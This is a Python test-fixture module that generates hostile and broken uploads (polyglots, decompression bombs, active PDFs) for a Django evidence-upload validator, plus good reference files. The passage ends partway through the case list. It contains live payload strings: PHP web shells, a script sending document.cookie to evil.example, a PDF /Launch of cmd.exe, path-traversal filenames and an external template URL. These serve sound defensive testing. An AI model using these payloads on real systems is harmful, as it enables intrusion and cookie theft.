"""A corpus of hostile and broken files, and of good files, all generated here (deterministic bytes).

``CASES``: ``(id, filename, content, expected_code, message_fragment)``; ``content`` is bytes or a
function returning bytes (``content_of(case)`` gives the bytes either way). Every case must be refused
with ``expected_code`` and a message containing ``message_fragment``. Run the corpus with
``CORPUS_SETTINGS`` (the oversize case is 1.2 MB against a 1 MB limit).

``MULTIPART_EXPECT``: the few cases whose *name* Django's multipart parser already cleans before our
code sees it (it keeps only the last path component and drops unprintable characters); through a
real request they are refused for what is left, with this ``(code, fragment)`` instead.

``GOOD``: ``(id, filename, content, file_type)``: files a phone or an office produces, all accepted.

Helpers for requests: ``multipart_body(fields, files)`` builds a ``multipart/form-data`` body and
``parse_with_evidence_handler(body, content_type)`` lets Django's ``MultiPartParser`` with our
``EvidenceUploadHandler`` parse it, exactly as a view does.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from evidence.models import FileType

CORPUS_SETTINGS = {"EVIDENCE_MAX_UPLOAD_MB": 1}
ZIP_DATE = (2024, 5, 1, 9, 30, 0)


def _random(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


# --- Images ----------------------------------------------------------------------------------------


def _picture(width: int = 320, height: int = 240, mode: str = "RGB"):
    """A deterministic picture with detail (a gradient and shapes), so it compresses like a photo."""
    from PIL import Image, ImageDraw

    image = Image.new(mode, (width, height))
    draw = ImageDraw.Draw(image)
    for y in range(0, height, 4):
        draw.rectangle([0, y, width, y + 3], fill=(y % 256, (y * 3) % 256, 160) if mode == "RGB" else y % 256)
    draw.ellipse([width // 4, height // 4, 3 * width // 4, 3 * height // 4], fill=(240, 200, 40))
    draw.text((10, 10), "Kerja bakti Carenang", fill=(0, 0, 0))
    return image


def jpeg_with_exif(taken: str = "2024:05:01 09:30:00", lat=(6, 12, 30.0), lon=(106, 18, 45.0)) -> bytes:
    """A phone-like JPEG: EXIF date taken (DateTimeOriginal) and GPS near Serang (6°S, 106°E)."""
    from PIL import Image

    image = _picture(640, 480)
    exif = Image.Exif()
    exif[0x010F] = "KKS Phone"  # Make
    exif[0x0132] = taken  # DateTime
    exif[0x0112] = 1  # Orientation
    exif.get_ifd(0x8769)[0x9003] = taken  # DateTimeOriginal
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "S", tuple(float(v) for v in lat), "E", tuple(float(v) for v in lon)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85, exif=exif)
    return out.getvalue()


def jpeg(width: int = 320, height: int = 240, **options) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(out, "JPEG", quality=80, **options)
    return out.getvalue()


def png(width: int = 200, height: int = 150, **options) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(out, "PNG", **options)
    return out.getvalue()


def webp(width: int = 200, height: int = 150) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(out, "WEBP", quality=80)
    return out.getvalue()


def _png_chunk(chunk_type: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", zlib.crc32(chunk_type + data))


def _png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    chunks, position = [], 8
    while position < len(data):
        length = struct.unpack(">I", data[position : position + 4])[0]
        chunks.append((data[position + 4 : position + 8], data[position + 8 : position + 8 + length]))
        position += 12 + length
    return chunks


def _png_rebuild(chunks) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(_png_chunk(kind, data) for kind, data in chunks)


def png_with_text(keyword: bytes, text: bytes) -> bytes:
    chunks = _png_chunks(png())
    return _png_rebuild([chunks[0], (b"tEXt", keyword + b"\x00" + text), *chunks[1:]])


def png_bomb() -> bytes:
    """A PNG whose header claims 20000 × 20000 pixels over a few hundred bytes of zeros."""
    ihdr = struct.pack(">IIBBBBB", 20000, 20000, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 20001 * 10, 9)
    return _png_rebuild([(b"IHDR", ihdr), (b"IDAT", idat), (b"IEND", b"")])


def png_real_bomb() -> bytes:
    """A 1-bit PNG of 12000 × 8000 (96 Mpx): 12 MB of image data inflating from a few KB."""
    width, height = 12000, 8000
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return _png_rebuild([(b"IHDR", ihdr), (b"IDAT", idat), (b"IEND", b"")])


def png_bad_crc() -> bytes:
    data = bytearray(png())
    data[-20] ^= 0xFF  # inside the last IDAT's data, its CRC no longer matches
    return bytes(data)


def png_short_data() -> bytes:
    """Valid chunks and CRCs, but the image data stops halfway (a re-framed truncated file)."""
    chunks = _png_chunks(png())
    raw = zlib.decompress(b"".join(data for kind, data in chunks if kind == b"IDAT"))
    half = zlib.compress(raw[: len(raw) // 2])
    return _png_rebuild([chunks[0], (b"IDAT", half), (b"IEND", b"")])


def apng() -> bytes:
    chunks = _png_chunks(png())
    return _png_rebuild([chunks[0], (b"acTL", struct.pack(">II", 2, 0)), *chunks[1:]])


def jpeg_with_segment(marker: int, payload: bytes) -> bytes:
    data = jpeg()
    segment = b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header (SOF0) claims 30000 × 30000 pixels."""
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 30000, 30000)
    return bytes(data)


def webp_bomb() -> bytes:
    """An extended WebP (VP8X) declaring a 16383 × 16383 canvas."""
    simple = webp()
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (16382).to_bytes(3, "little") * 2
    body = b"WEBP" + vp8x + simple[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_animated() -> bytes:
    simple = webp()
    vp8x = (
        b"VP8X"
        + struct.pack("<I", 10)
        + b"\x02\x00\x00\x00"
        + (199).to_bytes(3, "little")
        + (149).to_bytes(3, "little")
    )
    anim = b"ANIM" + struct.pack("<I", 6) + b"\x00" * 6
    body = b"WEBP" + vp8x + anim + simple[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def small_zip(entries: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (entries or {"payload/Evil.class": b"\xca\xfe\xba\xbe" + b"\x00" * 64}).items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    _picture(50, 50).convert("P").save(out, "GIF")
    return out.getvalue()


def bmp() -> bytes:
    out = io.BytesIO()
    _picture(40, 30).save(out, "BMP")
    return out.getvalue()


def tiff() -> bytes:
    out = io.BytesIO()
    _picture(40, 30).save(out, "TIFF")
    return out.getvalue()


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">'
    b'<script>fetch("/api/")</script><rect width="100" height="100"/></svg>\n'
)
HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS"
)
HEIC = struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + b"\x00" * 64


# --- PDF -------------------------------------------------------------------------------------------


def build_pdf(objects: list[bytes], *, trailer: bytes = b"", version: bytes = b"1.4") -> bytes:
    """A PDF of ``objects`` (object 1 is the catalogue) with a correct cross-reference table."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE_TEXT = b"BT /F1 18 Tf 72 720 Td (Notulen rapat Pokja Desa Sehat Carenang) Tj ET"


def pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", content: bytes = PAGE_TEXT, more=()) -> bytes:
    """A one-page PDF; ``more`` objects are numbered from 6."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
            _stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def pdf_big(size: int, seed: int = 7) -> bytes:
    """A valid PDF of about ``size`` bytes: one page and a large (random, so incompressible) image
    stream. ``bench/upload.py`` streams the same layout without building it in memory."""
    data = _random(seed, size)
    image = _stream(
        data, b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    )
    return pdf(more=[image])


def pdf_encrypted(user_password: str) -> bytes:
    """Encrypted by pypdf (RC4, 128 bit). The key derives from the first file identifier, fixed here;
    pypdf makes the second one up at random, so it is fixed after writing (bytes stay deterministic)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, ByteStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer._ID = ArrayObject([ByteStringObject(b"K" * 16), ByteStringObject(b"K" * 16)])
    writer.encrypt(user_password=user_password, owner_password="pemilik-rahasia", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return re.sub(rb"(/ID \[ ?<(?:4b){16}> ?<)[0-9a-f]{32}>", rb"\g<1>" + b"4b" * 16 + b">", out.getvalue())


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>"
URI_ACTION = b"<< /Type /Action /S /URI /URI (https://kks.example/) >>"


def pdf_object_stream(action: bytes = JS_ACTION) -> bytes:
    """PDF 1.5 with a cross-reference stream and the open action in a compressed object stream
    (with the JavaScript action, no /JS appears in the raw bytes)."""
    header = b"6 0 "
    packed = zlib.compress(header + action)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(header),
        len(packed),
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
        _stream(PAGE_TEXT),
        objstm + packed + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", offset) + b"\x00\x00" for offset in offsets]
    rows.append(b"\x02" + struct.pack(">I", 5) + b"\x00\x00")  # object 6: in object stream 5, index 0
    rows.append(b"\x01" + struct.pack(">I", xref_offset) + b"\x00\x00")  # object 7: the xref stream
    table = b"".join(rows)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


def pdf_zero_pages() -> bytes:
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_embedded_file() -> bytes:
    attachment = _stream(EXE, b"/Type /EmbeddedFile ")
    names = b"/Names << /EmbeddedFiles << /Names [(setup.exe) 7 0 R] >> >> "
    spec = b"<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>"
    return pdf(catalog_extra=names, more=[attachment, spec])


def _cut(data: bytes, fraction: float) -> bytes:
    return data[: int(len(data) * fraction)]


# --- DOCX / XLSX -----------------------------------------------------------------------------------

CT_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
CT_NS = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = (
    CT_HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    CT_HEAD + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    b"<w:p><w:r><w:t>Notulen rapat Forum Kecamatan Sehat Carenang, 12 Maret 2024.</w:t></w:r></w:p>"
    b"<w:p><w:r><w:t>Hadir: 18 orang. Hasil: jadwal kerja bakti dan lomba kebersihan RT.</w:t></w:r></w:p>"
    b"</w:body></w:document>"
)


def content_types(main: bytes = DOCX_MAIN, extra: bytes = b"") -> bytes:
    return (
        CT_HEAD + CT_NS + b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="' + main + b'"/>' + extra + b"</Types>"
    )


def zip_of(entries, *, method=zipfile.ZIP_DEFLATED, flag_bits: int = 0) -> bytes:
    """A ZIP of ``entries`` (name → bytes, or a list of pairs), fixed dates; ``flag_bits`` are set in
    every local and central header afterwards (zipfile itself would reset them)."""
    out = io.BytesIO()
    pairs = entries.items() if isinstance(entries, dict) else entries
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in pairs:
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = method
            archive.writestr(info, data)
    data = bytearray(out.getvalue())
    if flag_bits:
        for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            position = data.find(signature)
            while position >= 0:
                flags = struct.unpack("<H", data[position + at : position + at + 2])[0] | flag_bits
                data[position + at : position + at + 2] = struct.pack("<H", flags)
                position = data.find(signature, position + 4)
    return bytes(data)


def docx(extra: dict[str, bytes] | None = None, *, ct: bytes | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """A minimal real DOCX (Word opens it), with ``extra`` parts and ``drop`` parts left out."""
    entries = {
        "[Content_Types].xml": ct or content_types(),
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    entries.update(extra or {})
    return zip_of({name: data for name, data in entries.items() if name not in drop})


def xlsx() -> bytes:
    """A real XLSX written by openpyxl (dates and times fixed so the bytes are deterministic)."""
    import datetime

    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Daftar hadir"
    sheet.append(["No", "Nama", "Unsur", "Tanda tangan"])
    for number, (name, origin) in enumerate([("Siti", "PKK"), ("Budi", "Karang Taruna"), ("Ani", "Kader")], 1):
        sheet.append([number, name, origin, ""])
    fixed = datetime.datetime(2024, 5, 1, 9, 30)
    workbook.properties.created = fixed
    out = io.BytesIO()
    workbook.save(out)
    # openpyxl stamps "modified" and the entries with the current time: fix both.
    entries = []
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2024-05-01T09:30:00Z", data)
            entries.append((info.filename, data))
    return zip_of(entries)


def docx_with_embedded_xlsx() -> bytes:
    return docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()})


def ooxml_ratio_bomb() -> bytes:
    return docx({"word/media/padding.xml": b"\x00" * (3 * 1024 * 1024)})


def ooxml_declared_huge() -> bytes:
    """A DOCX whose central directory claims a part inflates to 4 GB (the bytes are tiny)."""
    data = bytearray(docx({"word/media/big.bin": b"A" * 1000}))
    entry = data.rfind(b"PK\x01\x02")  # central header of the last entry, big.bin
    data[entry + 24 : entry + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def ooxml_lying_sizes() -> bytes:
    """Headers say 100 bytes; the deflate stream inflates to 5 MB (zipfile stops; the CRC fails)."""
    data = bytearray(docx({"word/media/lie.bin": b"B" * (5 * 1024 * 1024)}))
    for signature, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        position = data.rfind(signature)
        data[position + size_at : position + size_at + 4] = struct.pack("<I", 100)
    return bytes(data)


def ooxml_many_entries() -> bytes:
    return docx({f"word/x/{number}": b"" for number in range(5200)})


def ole2(names: list[str]) -> bytes:
    """A minimal OLE2 (compound file) whose directory holds ``names`` (a legacy .doc, or an encrypted
    Office file with EncryptionInfo + EncryptedPackage)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = struct.pack("<H", 0x3E)
    header[26:28] = struct.pack("<H", 3)
    header[28:30] = b"\xfe\xff"
    header[30:32] = struct.pack("<H", 9)
    header[32:34] = struct.pack("<H", 6)
    header[44:48] = struct.pack("<I", 1)  # one FAT sector
    header[48:52] = struct.pack("<I", 1)  # directory at sector 1
    header[56:60] = struct.pack("<I", 4096)
    header[60:64] = struct.pack("<I", 0xFFFFFFFE)
    header[68:72] = struct.pack("<I", 0xFFFFFFFE)
    header[76:80] = struct.pack("<I", 0)  # DIFAT[0] = FAT at sector 0
    header[80:512] = b"\xff" * 432
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff\xff\xff\xff" * 126
    directory = bytearray()
    for index, entry_name in enumerate(["Root Entry", *names]):
        entry = bytearray(128)
        encoded = entry_name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        entry[64:66] = struct.pack("<H", len(encoded))
        entry[66] = 5 if index == 0 else 2
        entry[68:80] = b"\xff" * 12
        directory += entry
    directory += b"\x00" * (512 - len(directory) % 512 if len(directory) % 512 else 0)
    return bytes(header + fat + directory)


def docx_macro() -> bytes:
    ct = content_types(DOCM_MAIN, b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    return docx({"word/vbaProject.bin": ole2(["VBA", "PROJECT"])}, ct=ct)


def docx_external_template() -> bytes:
    rels = (
        CT_HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx({"word/_rels/settings.xml.rels": rels})


def docx_prefixed() -> bytes:
    """A DOCX with an extra 200 bytes hidden between two entries."""
    data = docx()
    archive = zipfile.ZipFile(io.BytesIO(data))
    second = sorted(archive.infolist(), key=lambda info: info.header_offset)[1].header_offset
    hidden = b"<?php system($_GET['c']); ?>" + b"#" * 171
    # Shift the central directory's offsets so that the ZIP is still readable.
    patched = bytearray(data[:second] + hidden + data[second:])
    position = patched.find(b"PK\x01\x02")
    while position >= 0:
        offset = struct.unpack("<I", patched[position + 42 : position + 46])[0]
        if offset >= second:
            patched[position + 42 : position + 46] = struct.pack("<I", offset + len(hidden))
        position = patched.find(b"PK\x01\x02", position + 4)
    end = patched.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack("<I", patched[end + 16 : end + 20])[0]
    patched[end + 16 : end + 20] = struct.pack("<I", cd_offset + len(hidden))
    return bytes(patched)


# --- Requests --------------------------------------------------------------------------------------

BOUNDARY = "kksBoundary7MA4YWxkTrZu0gW"


def multipart_body(fields: dict[str, str], files: list[tuple[str, str, bytes]]) -> tuple[bytes, str]:
    """``(body, content_type)`` of a multipart/form-data request; ``files`` are ``(field, name, bytes)``.
    File names go in raw (as a hostile client sends them), quotes escaped."""
    parts = []
    for key, value in fields.items():
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'.encode() + value.encode() + b"\r\n"
        )
    for field, name, data in files:
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{quoted}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n".encode()
            + data
            + b"\r\n"
        )
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode(), f"multipart/form-data; boundary={BOUNDARY}"


def parse_with_evidence_handler(body: bytes, content_type: str):
    """A real POST request over ``body``, parsed by Django's MultiPartParser with the evidence handler
    (as the upload views do). Returns the request; ``request.FILES`` holds ``HashedUploadedFile``s."""
    from django.core.handlers.wsgi import WSGIRequest

    from evidence.uploads import use_evidence_upload_handler

    request = WSGIRequest(
        {
            "REQUEST_METHOD": "POST",
            "PATH_INFO": "/unggah/",
            "SERVER_NAME": "testserver",
            "SERVER_PORT": "80",
            "CONTENT_TYPE": content_type,
            "CONTENT_LENGTH": str(len(body)),
            "wsgi.input": io.BytesIO(body),
            "wsgi.url_scheme": "http",
        }
    )
    use_evidence_upload_handler(request)
    request.FILES  # noqa: B018 - parsing happens here
    return request


# --- The corpus ------------------------------------------------------------------------------------

Content = bytes | Callable[[], bytes]

CASES: list[tuple[str, str, Content, str, str]] = [
    # File names (a valid PDF each: only the name is wrong).
    ("name_traversal", "../../../etc/passwd", pdf, "bad_name", "jalur folder"),
    ("name_traversal_windows", "..\\..\\Windows\\evil.pdf.exe", pdf, "bad_name", "jalur folder"),
    ("name_absolute", "/var/www/html/shell.php", pdf, "bad_name", "jalur folder"),
    ("name_nul", "foto.jpg\x00.php", jpeg, "bad_name", "NUL"),
    ("name_control", "laporan\x1b[31m.pdf.sh", pdf, "bad_name", "karakter kendali"),
    ("name_rtl_override", "foto\u202egpj.exe", jpeg, "bad_extension", "akhiran namanya .exe"),
    ("name_only_dots", "....", pdf, "bad_name", "jalur folder"),
    # Empty and oversize.
    ("empty", "kosong.pdf", b"", "empty", "kosong"),
    ("oversize", "laporan-besar.pdf", lambda: pdf_big(1_250_000), "too_large", "batas 1 MB"),
    # Not on the allow-list.
    ("exe_as_pdf", "laporan.pdf", EXE, "unsupported_type", "program Windows"),
    ("zip_as_pdf", "laporan.pdf", small_zip, "unsupported_type", "arsip ZIP"),
    ("svg_as_png", "foto.png", SVG, "unsupported_type", "SVG"),
    (
        "svg_bare_as_jpg",
        "foto.jpg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "unsupported_type",
        "SVG",
    ),
    ("html_as_jpg", "foto.jpg", HTML, "unsupported_type", "HTML"),
    ("php_as_jpg", "foto.jpg", b"<?php system($_GET['c']); ?>", "unsupported_type", "PHP"),
    ("gif", "animasi.gif", gif, "unsupported_type", "GIF"),
    ("gif_as_jpg", "foto.jpg", gif, "unsupported_type", "GIF"),
    ("bmp", "foto.bmp", bmp, "unsupported_type", "BMP"),
    ("tiff", "pindaian.tif", tiff, "unsupported_type", "TIFF"),
    ("heic", "IMG_0001.jpg", HEIC, "unsupported_type", "HEIC"),
    ("rtf_as_docx", "notulen.docx", b"{\\rtf1\\ansi{\\object\\objemb}}", "unsupported_type", "RTF"),
    ("text_as_pdf", "laporan.pdf", b"Ini hanya teks biasa, bukan PDF.\n", "unsupported_type", "teks biasa"),
    ("legacy_doc", "notulen.doc", lambda: ole2(["WordDocument", "1Table"]), "unsupported_type", "Office lama"),
    (
        "pptx",
        "paparan.pptx",
        lambda: zip_of({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
        "unsupported_type",
        "PowerPoint",
    ),
    ("apng", "animasi.png", apng, "unsupported_type", "animasi"),
    ("webp_animated", "animasi.webp", webp_animated, "unsupported_type", "animasi"),
    # Extension disagrees with the content.
    ("jpeg_as_pdf", "undangan.pdf", jpeg, "bad_extension", "menjadi .jpg"),
    ("pdf_as_docx", "notulen.docx", pdf, "bad_extension", "menjadi .pdf"),
    ("png_as_jpg", "foto.jpg", png, "bad_extension", "menjadi .png"),
    ("docx_as_xlsx", "daftar-hadir.xlsx", docx, "bad_extension", "menjadi .docx"),
    ("no_extension", "notulen", pdf, "bad_extension", "tidak berakhiran .pdf"),
    # Polyglots.
    ("jpeg_plus_zip", "foto.jpg", lambda: jpeg() + small_zip(), "polyglot", "ZIP"),
    ("jpeg_plus_jar_big", "foto.jpg", lambda: jpeg() + small_zip({"a.class": _random(3, 90_000)}), "polyglot", ""),
    ("jpeg_plus_html", "foto.jpg", lambda: jpeg() + HTML, "polyglot", "<script"),
    (
        "jpeg_php_comment",
        "foto.jpg",
        lambda: jpeg_with_segment(0xFE, b"<?php eval($_POST['x']); ?>"),
        "polyglot",
        "<?php",
    ),
    (
        "jpeg_svg_in_exif",
        "foto.jpg",
        lambda: jpeg_with_segment(0xE1, b"Exif\x00\x00<svg\tonclick=1>"),
        "polyglot",
        "<svg",
    ),
    ("jpeg_big_trailer", "foto.jpg", lambda: jpeg() + _random(5, 100_000), "polyglot", "KB data setelah akhir"),
    ("jpeg_plus_pdf", "foto.jpg", lambda: jpeg() + pdf(), "polyglot", "%pdf-"),
    ("png_trailing", "foto.png", lambda: png() + b"extra bytes after the end", "polyglot", "setelah akhir PNG"),
    ("png_plus_zip", "foto.png", lambda: png() + small_zip(), "polyglot", ""),
    (
        "png_script_text",
        "foto.png",
        lambda: png_with_text(b"Comment", b"<script>alert(1)</script>"),
        "polyglot",
        "<script",
    ),
    ("webp_trailing", "foto.webp", lambda: webp() + b"<html>", "polyglot", "setelah akhir WebP"),
    ("pdf_plus_zip", "laporan.pdf", lambda: pdf() + small_zip(), "polyglot", "ZIP"),
    ("pdf_plus_big_zip", "laporan.pdf", lambda: pdf() + small_zip({"big.bin": _random(9, 70_000)}), "polyglot", "ZIP"),
    (
        "pdf_html_head",
        "laporan.pdf",
        lambda: pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<html><script>x</script>", 1),
        "polyglot",
        "<script",
    ),
    ("pdf_html_tail", "laporan.pdf", lambda: pdf() + b"<html><body onload=alert(1)>", "polyglot", ""),
    ("docx_hidden_gap", "notulen.docx", docx_prefixed, "polyglot", "di antara entri"),
    # Decompression bombs.
    ("jpeg_bomb", "foto.jpg", jpeg_bomb, "image_too_large", "30000 × 30000"),
    ("png_bomb", "foto.png", png_bomb, "image_too_large", "20000 × 20000"),
    ("png_real_bomb", "foto.png", png_real_bomb, "image_too_large", "12000 × 8000"),
    ("webp_bomb", "foto.webp", webp_bomb, "image_too_large", "16383 × 16383"),
    # Broken images.
    ("jpeg_truncated", "foto.jpg", lambda: _cut(jpeg(), 0.6), "corrupt", "terpotong"),
    ("jpeg_no_scan", "foto.jpg", lambda: jpeg()[:2] + b"\xff\xd9", "corrupt", "rusak"),
    ("png_truncated", "foto.png", lambda: _cut(png(), 0.5), "corrupt", "terpotong"),
    ("png_bad_crc", "foto.png", png_bad_crc, "corrupt", "CRC"),
    ("png_short_data", "foto.png", png_short_data, "corrupt", "tidak lengkap"),
    ("webp_truncated", "foto.webp", lambda: _cut(webp(), 0.5), "corrupt", "terpotong"),
    # Broken, encrypted or active PDFs.
    ("pdf_truncated", "laporan.pdf", lambda: _cut(pdf(), 0.6), "corrupt", "%%EOF"),
    ("pdf_header_late", "laporan.pdf", lambda: b"JUNK" * 10 + pdf(), "corrupt", "kepala PDF"),
    (
        "pdf_no_xref",
        "laporan.pdf",
        b"%PDF-1.4\n1 0 obj\n<< /Nothing true >>\nendobj\n%%EOF\n",
        "corrupt",
        "tidak terbaca",
    ),
    ("pdf_zero_pages", "laporan.pdf", pdf_zero_pages, "no_pages", "tidak memiliki halaman"),
    ("pdf_encrypted_empty", "laporan.pdf", lambda: pdf_encrypted(""), "encrypted", "terenkripsi"),
    ("pdf_encrypted_password", "laporan.pdf", lambda: pdf_encrypted("rahasia"), "encrypted", "terenkripsi"),
    (
        "pdf_javascript",
        "laporan.pdf",
        lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "),
        "active_content",
        "/JavaScript",
    ),
    (
        "pdf_launch",
        "laporan.pdf",
        lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >> "),
        "active_content",
        "/Launch",
    ),
    (
        "pdf_js_obfuscated",
        "laporan.pdf",
        lambda: pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >> "),
        "active_content",
        "/JavaScript",
    ),
    ("pdf_js_object_stream", "laporan.pdf", pdf_object_stream, "active_content", "/JavaScript"),
    (
        "pdf_page_action_js",
        "laporan.pdf",
        lambda: pdf(page_extra=b"/AA << /O << /S /JavaScript /JS 6 0 R >> >> ", more=[_stream(b"app.alert(1)")]),
        "active_content",
        "/JavaScript",
    ),
    ("pdf_embedded_file", "laporan.pdf", pdf_embedded_file, "active_content", "lampiran tersemat"),
    # DOCX / XLSX.
    ("ooxml_ratio_bomb", "notulen.docx", ooxml_ratio_bomb, "archive_bomb", "rasio kompresi"),
